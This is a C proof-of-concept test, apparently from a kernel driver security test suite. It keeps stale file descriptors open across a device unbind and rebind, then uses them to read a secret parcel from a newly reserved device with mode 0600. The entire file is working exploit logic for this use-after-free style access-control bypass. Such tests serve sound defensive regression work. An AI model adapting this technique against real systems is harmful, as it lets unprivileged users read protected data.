// SPDX-License-Identifier: GPL-2.0-only
/*
 * Keep files open while the administrator unbinds the device and binds it again, and at last
 * reserves the new one for himself. A file knows the device by its memory, which was freed; when
 * the new device is made in the same memory, the file opens that one, and the attacker reads what
 * he may not.
 *
 * Memory comes back in the order in which it was freed, but others take of it too. So the attacker
 * keeps a file of each of several devices.
 */
#include <fcntl.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "attack.h"

#define DEVICES	16	/* a file of each */
#define TRIES	16
#define VAULT	"vault"

enum { RENEW, RESERVE, EMPTY, GIVE_BACK };

/* As echo does. */
static void tell_driver(const char *what)
{
	char path[128], id[64];
	int file, length;

	snprintf(path, sizeof(path), "/sys/bus/platform/drivers/%s/%s", device_name(), what);
	length = snprintf(id, sizeof(id), "%s", device_name());
	file = open(path, O_WRONLY);
	if (file < 0 || write(file, id, length) != length)
		_exit(2);
	close(file);
}

/* The administrator. What he puts into the vault is protected by the mode of the node. */
static long administrate(struct victim_state *state, int command)
{
	switch (command) {
	case RENEW:
		tell_driver("unbind");
		tell_driver("bind");
		return 0;
	case RESERVE:
		tell_driver("unbind");
		tell_driver("bind");
		if (chmod(device_path(), 0600))
			return -errno;
		state->file = device_open();
		state->box = named_box(state->file, VAULT, 0666);
		return parcel_send(state->file, state->box, state->secret,
				   strlen(state->secret) + 1, NULL, 0);
	case EMPTY:
		box_unlink(state->file, state->box);
		handle_close(state->file, state->box);
		close(state->file);
		return 0;
	default:
		return chmod(device_path(), 0666) ? -errno : 0;
	}
}

static long try_file(int file, char bytes[SECRET_SIZE])
{
	__u32 vault;
	long result;

	result = box_open(file, VAULT, PARCEL_RIGHT_RECEIVE, &vault);
	if (result)
		return result;
	result = parcel_receive(file, vault, bytes, SECRET_SIZE, PARCEL_PEEK);
	handle_close(file, vault);
	return result;
}

int main(int argc, char **argv)
{
	char secret[SECRET_SIZE], bytes[SECRET_SIZE] = "";
	int files[DEVICES], i, j;
	struct victim root;
	long result = 0;

	attack_begin_beside_root(argc, argv, &root, administrate);
	victim_secret(&root, secret);
	for (i = 0; i < DEVICES; i++) {
		files[i] = device_open();
		if (i + 1 < DEVICES)
			must("let the administrator bind", victim_do(&root, RENEW));
	}

	for (i = 0; i < TRIES && strcmp(bytes, secret); i++) {
		must("let the administrator bind", victim_do(&root, RESERVE));
		if (open(device_path(), O_RDWR) >= 0 || errno != EACCES)
			could_not("the new device is not reserved");
		for (j = 0; j < DEVICES && strcmp(bytes, secret); j++)
			result = try_file(files[j], bytes);
		must("let the administrator clean up", victim_do(&root, EMPTY));
	}
	must("let the administrator give the device back", victim_do(&root, GIVE_BACK));
	if (!strcmp(bytes, secret))
		achieved("leaks", "%s: \"%s\"",
			 "a parcel of a device that I am not allowed to open any more", bytes);
	refused("%s, for each device that was unbound", error_name(result));
}
